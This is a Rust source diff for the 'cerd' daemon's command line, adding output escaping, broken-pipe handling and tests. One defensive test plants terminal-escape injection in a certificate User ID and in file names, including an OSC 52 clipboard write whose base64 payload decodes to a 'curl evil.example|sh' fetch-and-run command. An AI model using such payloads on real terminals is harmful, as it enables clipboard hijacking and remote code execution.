@@ -1,6 +1,14 @@
 //! The `cerd` command line: flags, logging set-up, and the subcommands
 //! `run` (the default), `init` and `check`.
+//!
+//! Output follows cerctl's model: what `init` and `check` print goes
+//! through a writer, so a reader that goes away (`cerd check | head -1`)
+//! ends the command with exit 0 instead of a panic; errors print as
+//! `cerd: {err:#}`. Everything printed that came from files or
+//! certificates (User IDs, file names, error text quoting them) is escaped
+//! by [`cer_proto::text::escape`] first.
 
+use std::io::{self, Write};
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 
@@ -62,7 +70,36 @@ enum Command {
 
 /// Runs the command line; the binary's `main` is only this.
 pub fn main() -> ExitCode {
-    let cli = Cli::parse();
+    ExitCode::from(main_with(
+        std::env::args_os(),
+        &mut io::stdout(),
+        &mut io::stderr(),
+    ))
+}
+
+/// Parses `args` (argv[0] first), runs the command and returns the exit
+/// status: 0 success (also when stdout was closed early, e.g. by `head`),
+/// 1 a failure or a problem found by `check`, 2 a usage error. Help and
+/// version go to `stdout`, usage errors and failures to `stderr`.
+pub fn main_with<I, T>(args: I, stdout: &mut dyn Write, stderr: &mut dyn Write) -> u8
+where
+    I: IntoIterator<Item = T>,
+    T: Into<std::ffi::OsString> + Clone,
+{
+    let cli = match Cli::try_parse_from(args) {
+        Ok(cli) => cli,
+        Err(e) => {
+            let text = e.render().to_string();
+            // Nothing useful to do if the terminal is gone.
+            return if e.use_stderr() {
+                let _ = stderr.write_all(text.as_bytes());
+                2
+            } else {
+                let _ = stdout.write_all(text.as_bytes());
+                0
+            };
+        }
+    };
     // The demo narrates on stdout; its three nodes' logs would drown it.
     let quiet = matches!(cli.command, Some(Command::Demo { .. }));
     init_tracing(
@@ -71,17 +108,41 @@ pub fn main() -> ExitCode {
     );
     let result = match &cli.command {
         None | Some(Command::Run) => run(&cli),
-        Some(Command::Init { name }) => init(&cli, name),
-        Some(Command::Check) => check(&cli),
+        Some(Command::Init { name }) => init(&cli, name, stdout),
+        Some(Command::Check) => check(&cli, stdout),
         Some(Command::Demo { dir }) => demo(dir.clone()),
     };
+    let result = result.and_then(|code| {
+        stdout.flush().context("writing to standard output")?;
+        Ok(code)
+    });
     match result {
         Ok(code) => code,
+        // A reader that went away (`cerd check | head -1`) is not an error.
+        Err(e) if is_broken_pipe(&e) => 0,
         Err(e) => {
-            eprintln!("cerd: {e:#}");
-            ExitCode::from(1)
+            let text = format!("cerd: {e:#}");
+            for line in text.lines() {
+                // Nothing useful to do if stderr is gone too.
+                let _ = writeln!(stderr, "{}", cer_proto::text::escape(line));
+            }
+            1
         }
     }
+}
+
+fn is_broken_pipe(err: &anyhow::Error) -> bool {
+    err.chain().any(|e| {
+        e.downcast_ref::<io::Error>()
+            .is_some_and(|e| e.kind() == io::ErrorKind::BrokenPipe)
+    })
+}
+
+/// Writes one line of output with anything from outside escaped. The
+/// fixed text around it has no control characters, so escaping the whole
+/// line changes only what came from files and certificates.
+fn say(out: &mut dyn Write, line: &str) -> io::Result<()> {
+    writeln!(out, "{}", cer_proto::text::escape(line))
 }
 
 fn init_tracing(format: LogFormat, default_filter: &str) {
@@ -93,10 +154,12 @@ fn init_tracing(format: LogFormat, default_filter: &str) {
         .with_env_filter(filter)
         .with_ansi(std::io::IsTerminal::is_terminal(&std::io::stderr()))
         .with_writer(std::io::stderr);
-    match format {
-        LogFormat::Text => builder.init(),
-        LogFormat::Json => builder.json().init(),
-    }
+    // Only the first call in a process installs it (tests call main_with
+    // more than once).
+    let _ = match format {
+        LogFormat::Text => builder.try_init(),
+        LogFormat::Json => builder.json().try_init(),
+    };
 }
 
 fn load_config(cli: &Cli) -> anyhow::Result<Config> {
@@ -111,7 +174,7 @@ fn config_errors(errors: Vec<ConfigError>) -> anyhow::Error {
     anyhow::anyhow!("invalid configuration:\n  {}", lines.join("\n  "))
 }
 
-fn run(cli: &Cli) -> anyhow::Result<ExitCode> {
+fn run(cli: &Cli) -> anyhow::Result<u8> {
     let config = load_config(cli)?;
     let runtime = tokio::runtime::Builder::new_multi_thread()
         .enable_all()
@@ -123,7 +186,7 @@ fn run(cli: &Cli) -> anyhow::Result<ExitCode> {
         tracing::info!("shutting down");
         daemon.shutdown().await
     })?;
-    Ok(ExitCode::SUCCESS)
+    Ok(0)
 }
 
 async fn wait_for_signal() -> anyhow::Result<()> {
@@ -137,38 +200,44 @@ async fn wait_for_signal() -> anyhow::Result<()> {
     Ok(())
 }
 
-fn demo(dir: Option<PathBuf>) -> anyhow::Result<ExitCode> {
+fn demo(dir: Option<PathBuf>) -> anyhow::Result<u8> {
     let runtime = tokio::runtime::Builder::new_multi_thread()
         .enable_all()
         .build()
         .context("starting the async runtime")?;
     runtime.block_on(crate::demo::run(dir))?;
-    Ok(ExitCode::SUCCESS)
+    Ok(0)
 }
 
-fn init(cli: &Cli, name: &str) -> anyhow::Result<ExitCode> {
+fn init(cli: &Cli, name: &str, out: &mut dyn Write) -> anyhow::Result<u8> {
     let config = load_config(cli)?;
     let identity = daemon::init(&config, name)?;
     let cert = daemon::public_cert_path(&config.data_dir, identity.name());
-    println!(
-        "initialised {} in {}",
-        identity.name(),
-        config.data_dir.display()
-    );
-    println!("fingerprint {}", identity.fingerprint());
-    println!(
-        "public certificate {} (share it with peer CERTs)",
-        cert.display()
-    );
-    Ok(ExitCode::SUCCESS)
+    say(
+        out,
+        &format!(
+            "initialised {} in {}",
+            identity.name(),
+            config.data_dir.display()
+        ),
+    )?;
+    say(out, &format!("fingerprint {}", identity.fingerprint()))?;
+    say(
+        out,
+        &format!(
+            "public certificate {} (share it with peer CERTs)",
+            cert.display()
+        ),
+    )?;
+    Ok(0)
 }
 
-fn check(cli: &Cli) -> anyhow::Result<ExitCode> {
+fn check(cli: &Cli, out: &mut dyn Write) -> anyhow::Result<u8> {
     let mut problems: Vec<String> = Vec::new();
     let config = match &cli.config {
         Some(path) => match Config::load(path) {
             Ok(c) => {
-                println!("ok    configuration {}", path.display());
+                say(out, &format!("ok    configuration {}", path.display()))?;
                 Some(c)
             }
             Err(errors) => {
@@ -177,7 +246,7 @@ fn check(cli: &Cli) -> anyhow::Result<ExitCode> {
             }
         },
         None => {
-            println!("ok    configuration (embedded defaults)");
+            say(out, "ok    configuration (embedded defaults)")?;
             Some(Config::defaults(Path::new(".")))
         }
     };
@@ -185,61 +254,195 @@ fn check(cli: &Cli) -> anyhow::Result<ExitCode> {
         let key = config.data_dir.join(IDENTITY_FILE);
         if key.exists() {
             match Identity::load(&key) {
-                Ok(id) => println!("ok    identity {} ({})", id.name(), id.fingerprint()),
+                Ok(id) => say(
+                    out,
+                    &format!("ok    identity {} ({})", id.name(), id.fingerprint()),
+                )?,
                 Err(e) => problems.push(format!("{}: {e}", key.display())),
             }
         } else {
-            println!(
-                "note  no identity yet in {}: it is created on first start",
-                config.data_dir.display()
-            );
+            say(
+                out,
+                &format!(
+                    "note  no identity yet in {}: it is created on first start",
+                    config.data_dir.display()
+                ),
+            )?;
         }
         if config.certs_dir.is_dir() {
             let (trust, refused) = TrustStore::load_dir(&config.certs_dir);
-            println!(
-                "ok    trust store {}: {} certificate(s)",
-                config.certs_dir.display(),
-                trust.len()
-            );
+            say(
+                out,
+                &format!(
+                    "ok    trust store {}: {} certificate(s)",
+                    config.certs_dir.display(),
+                    trust.len()
+                ),
+            )?;
             for cert in trust.iter() {
-                println!("        {} {}", cert.fingerprint(), cert.name());
+                say(
+                    out,
+                    &format!("        {} {}", cert.fingerprint(), cert.name()),
+                )?;
             }
             for (path, error) in refused {
                 problems.push(format!("{}: {error}", path.display()));
             }
         } else {
-            println!(
-                "note  trust store {} does not exist: only this node is trusted",
-                config.certs_dir.display()
-            );
+            say(
+                out,
+                &format!(
+                    "note  trust store {} does not exist: only this node is trusted",
+                    config.certs_dir.display()
+                ),
+            )?;
         }
 
         if config.playbooks_dir.is_dir() {
             let (playbooks, errors) = crate::playbook::load_dir(&config.playbooks_dir);
-            println!(
-                "ok    playbooks {}: {} valid",
-                config.playbooks_dir.display(),
-                playbooks.len()
-            );
+            say(
+                out,
+                &format!(
+                    "ok    playbooks {}: {} valid",
+                    config.playbooks_dir.display(),
+                    playbooks.len()
+                ),
+            )?;
             for playbook in &playbooks {
-                println!("        {} ({})", playbook.name, playbook.file.display());
+                say(
+                    out,
+                    &format!("        {} ({})", playbook.name, playbook.file.display()),
+                )?;
+            }
+            // Warnings do not count as problems: the playbooks load.
+            for warning in playbooks.iter().flat_map(|p| &p.warnings) {
+                say(out, &format!("warn  {warning}"))?;
             }
             problems.extend(errors.iter().map(|e| e.to_string()));
         } else {
-            println!(
-                "note  playbooks folder {} does not exist: no automation",
-                config.playbooks_dir.display()
-            );
+            say(
+                out,
+                &format!(
+                    "note  playbooks folder {} does not exist: no automation",
+                    config.playbooks_dir.display()
+                ),
+            )?;
         }
     }
     if problems.is_empty() {
-        println!("all checks passed");
-        Ok(ExitCode::SUCCESS)
+        say(out, "all checks passed")?;
+        Ok(0)
     } else {
         for p in &problems {
-            println!("error {p}");
+            say(out, &format!("error {p}"))?;
         }
-        println!("{} problem(s) found", problems.len());
-        Ok(ExitCode::from(1))
+        say(out, &format!("{} problem(s) found", problems.len()))?;
+        Ok(1)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A writer whose reader went away, like stdout piped into `head`.
+    struct ClosedPipe;
+
+    impl Write for ClosedPipe {
+        fn write(&mut self, _: &[u8]) -> io::Result<usize> {
+            Err(io::ErrorKind::BrokenPipe.into())
+        }
+        fn flush(&mut self) -> io::Result<()> {
+            Err(io::ErrorKind::BrokenPipe.into())
+        }
+    }
+
+    /// A node folder with a configuration, certs/ and playbooks/.
+    fn node_dir() -> (tempfile::TempDir, String) {
+        let dir = tempfile::tempdir().unwrap();
+        for sub in ["certs", "playbooks"] {
+            std::fs::create_dir(dir.path().join(sub)).unwrap();
+        }
+        let config = dir.path().join("cerd.toml");
+        std::fs::write(
+            &config,
+            "name = \"T\"\ndata_dir = \"data\"\ncerts_dir = \"certs\"\nplaybooks_dir = \"playbooks\"\n",
+        )
+        .unwrap();
+        let config = config.display().to_string();
+        (dir, config)
+    }
+
+    fn cerd(args: &[&str], stdout: &mut dyn Write) -> (u8, String) {
+        let mut stderr = Vec::new();
+        let argv = ["cerd"].iter().chain(args).copied();
+        let code = main_with(argv, stdout, &mut stderr);
+        (code, String::from_utf8_lossy(&stderr).into_owned())
+    }
+
+    #[test]
+    fn a_closed_stdout_ends_check_with_success() {
+        let (_dir, config) = node_dir();
+        let (code, stderr) = cerd(&["--config", &config, "check"], &mut ClosedPipe);
+        assert_eq!((code, stderr.as_str()), (0, ""));
+        let (code, stderr) = cerd(&["--help"], &mut ClosedPipe);
+        assert_eq!((code, stderr.as_str()), (0, ""));
+    }
+
+    #[test]
+    fn check_escapes_user_ids_and_file_names() {
+        let (dir, config) = node_dir();
+        // OSC 52 (write the clipboard), clear the screen, and a bidi override.
+        let hostile = "Evil CERT\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}[2J\u{202E}";
+        let certs = dir.path().join("certs");
+        std::fs::write(
+            certs.join("peer.asc"),
+            crate::sign::test_cert_with_user_id(hostile),
+        )
+        .unwrap();
+        std::fs::write(certs.join("bad\u{1b}[2J\u{2067}.asc"), b"not a cert").unwrap();
+        std::fs::write(
+            dir.path().join("playbooks/bad\u{1b}]0;title\u{7}.yaml"),
+            b"name: [",
+        )
+        .unwrap();
+
+        let mut out = Vec::new();
+        let (code, stderr) = cerd(&["--config", &config, "check"], &mut out);
+        let out = String::from_utf8(out).unwrap();
+        assert_eq!(code, 1, "{out}{stderr}");
+        for c in ['\u{1b}', '\u{7}', '\u{202E}', '\u{2067}'] {
+            assert!(!out.contains(c), "{c:?} reached the terminal: {out:?}");
+        }
+        assert!(
+            out.contains(
+                "Evil CERT\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u{7}\\u{1b}[2J\\u{202e}"
+            ),
+            "{out}"
+        );
+        assert!(out.contains("bad\\u{1b}[2J\\u{2067}.asc"), "{out}");
+        assert!(out.contains("bad\\u{1b}]0;title\\u{7}.yaml"), "{out}");
+    }
+
+    #[test]
+    fn check_prints_playbook_warnings_without_failing() {
+        let (dir, config) = node_dir();
+        std::fs::write(
+            dir.path().join("playbooks/block.yaml"),
+            "name: block\non: [incident.received]\nactions:\n  - exec:\n      argv: [/bin/true, \"{indicator.value}\"]\n      for_each_indicator: [ipv4]\n",
+        )
+        .unwrap();
+        let mut out = Vec::new();
+        let (code, stderr) = cerd(&["--config", &config, "check"], &mut out);
+        let out = String::from_utf8(out).unwrap();
+        assert_eq!(code, 0, "{out}{stderr}");
+        assert!(out.contains("warn  "), "{out}");
+        assert!(
+            out.contains(
+                "block.yaml:5:25: actions[0].exec.argv[1]: {indicator.value} begins this argument"
+            ),
+            "{out}"
+        );
+        assert!(out.ends_with("all checks passed\n"), "{out}");
     }
 }
